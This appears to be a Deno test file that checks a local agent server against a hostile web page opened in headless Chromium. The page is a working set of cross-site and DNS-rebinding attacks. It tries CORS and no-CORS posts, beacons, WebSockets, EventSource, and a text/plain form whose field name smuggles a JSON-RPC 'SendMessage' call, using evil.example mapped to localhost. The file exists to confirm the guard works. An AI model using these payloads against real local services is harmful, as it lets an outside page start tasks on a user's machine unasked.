/**
 * A web page of somebody else, in a real browser, against the door of a running capsule (spec door 2.1). What it does to the
 * door it first does to an unguarded server: an attack that fails there too would prove nothing.
 *
 * @module
 */
import assert from "node:assert/strict";
import { agentProject, capsule } from "../support/agent_project.ts";
import { startRun } from "../support/serving_run.ts";

/** Longest time a page takes for all its attempts. */
const PAGE_BOUND_MS = 60_000;

const MESSAGE = JSON.stringify({
  jsonrpc: "2.0",
  id: 1,
  method: "SendMessage",
  params: { message: { messageId: "m1", role: "ROLE_USER", parts: [{ text: "owned" }] } },
});

/** The page: it tries everything a page can send to a port and tells its own server what it was given back. */
function page(targets: readonly string[]): string {
  return `<!doctype html><meta charset="utf-8"><body><script>
const targets = ${JSON.stringify(targets)};
const message = ${JSON.stringify(MESSAGE)};
const seen = [];
const attempt = async (name, work) => {
  const late = new Promise((resolve) => setTimeout(() => resolve("late"), 3000));
  try { seen.push([name, String(await Promise.race([work(), late]))]); } catch (error) { seen.push([name, "failed"]); }
};
const loaded = (element) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("failed");
  document.body.append(element);
});
(async () => {
  for (const at of targets) {
    const card = at + "/.well-known/agent-card.json";
    const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
    for (const type of types) {
      const post = (mode) => () => fetch(at + "/", { method: "POST", mode, headers: { "content-type": type,
        "a2a-version": "1.0" }, body: message }).then((response) => response.text());
      await attempt("cors " + type, post("cors"));
      await attempt("no-cors " + type, post("no-cors"));
      await attempt("beacon " + type, async () => navigator.sendBeacon(at + "/", new Blob([message], { type })));
    }
    await attempt("simple post", () => fetch(at + "/", { method: "POST", mode: "no-cors", body: message }).then((r) => r.type));
    await attempt("read card", () => fetch(card).then((response) => response.text()));
    await attempt("read file", () => fetch(at + "/resources/files").then((response) => response.text()));
    await attempt("script", () => loaded(Object.assign(document.createElement("script"), { src: card })));
    await attempt("image", () => loaded(Object.assign(new Image(), { src: card })));
    await attempt("events", () => new Promise((resolve) => {
      const source = new EventSource(at + "/");
      source.onmessage = (event) => resolve(event.data);
      source.onerror = () => resolve("failed");
    }));
    await attempt("socket", () => new Promise((resolve) => {
      const socket = new WebSocket(at.replace("http", "ws") + "/");
      socket.onopen = () => resolve("opened");
      socket.onerror = () => resolve("failed");
    }));
    await attempt("form", () => {
      const frame = Object.assign(document.createElement("iframe"), { name: "f" + Math.random() });
      const form = Object.assign(document.createElement("form"), { method: "POST", action: at + "/", enctype: "text/plain",
        target: frame.name });
      const field = Object.assign(document.createElement("input"), { name: message.slice(0, -1) + ',"x":"', value: '"}' });
      form.append(field);
      const done = loaded(frame);
      document.body.append(form);
      setTimeout(() => form.submit(), 50);
      return done.then(() => new Promise((resolve) => setTimeout(() => resolve("sent"), 300)));
    });
    await attempt("frame", () => loaded(Object.assign(document.createElement("iframe"), { src: card })));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(seen) });
})();
</script>`;
}

/** Opens the page in Chromium and gives what it reports. */
async function visit(targets: readonly string[]): Promise<[string, string][]> {
  const reported = Promise.withResolvers<[string, string][]>();
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, async (request) => {
    if (new URL(request.url).pathname === "/report") {
      reported.resolve(await request.json());
      return new Response(null, { status: 204 });
    }
    return new Response(page(targets), { headers: { "content-type": "text/html; charset=utf-8" } });
  });
  const profile = await Deno.makeTempDir({ prefix: "mur-browser-" });
  const browser = new Deno.Command("chromium", {
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      `--user-data-dir=${profile}`,
      // A name of the attacker's that leads to this machine, as after DNS rebinding.
      "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1",
      "--remote-debugging-port=0",
      `http://evil.example:${server.addr.port}/`,
    ],
    stdout: "null",
    stderr: "null",
  }).spawn();
  const timer = setTimeout(() => reported.reject(new Error("the page did not report")), PAGE_BOUND_MS);
  try {
    return await reported.promise;
  } finally {
    clearTimeout(timer);
    browser.kill("SIGKILL");
    await browser.status;
    await server.shutdown();
    await Deno.remove(profile, { recursive: true }).catch(() => {});
  }
}

const addresses = (port: number) => [
  `http://127.0.0.1:${port}`,
  `http://localhost:${port}`,
  `http://rebound.example:${port}`,
];

Deno.test("a hostile page in a browser starts no task and reads nothing, by no request it can make", async (test) => {
  await test.step("the same page drives a server without the guard", async () => {
    let messages = 0;
    const naive = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, async (request) => {
      if (request.method === "POST" && (await request.text()).includes('"SendMessage"')) messages++;
      return Response.json({ name: "naive" });
    });
    await visit(addresses(naive.addr.port));
    await naive.shutdown();
    assert.ok(messages >= 3 * 5, `${messages} messages arrived`);
  });

  await test.step("the door refuses every one of them", async () => {
    await using project = await agentProject(
      capsule({ lifecycle: { task_acceptance: "queue", after_task: "sleep", queue_depth: 9 } }),
    );
    const run = await startRun(project, null);
    const port = Number(run.url.split(":")[1]);
    const seen = await visit(addresses(port));
    assert.ok(seen.length >= 54, `${seen.length} attempts were made`);
    for (const [name, got] of seen) {
      assert.ok(!got.includes("probe"), `${name} read ${got}`);
      assert.ok(!got.includes("task"), `${name} read ${got}`);
      assert.notEqual(got, "opened", name);
    }
    const tasks = await fetch(`http://127.0.0.1:${port}/`, {
      method: "POST",
      headers: { "content-type": "application/json", "a2a-version": "1.0" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "ListTasks" }),
    });
    assert.equal((await tasks.json()).result.totalSize, 0);
    run.kill("SIGTERM");
    const ended = await run.finish();
    assert.equal(ended.status, 0, ended.stderr);
    assert.deepEqual(ended.trace.map(({ event_type }) => event_type), ["session_start", "session_end"]);
  });
});
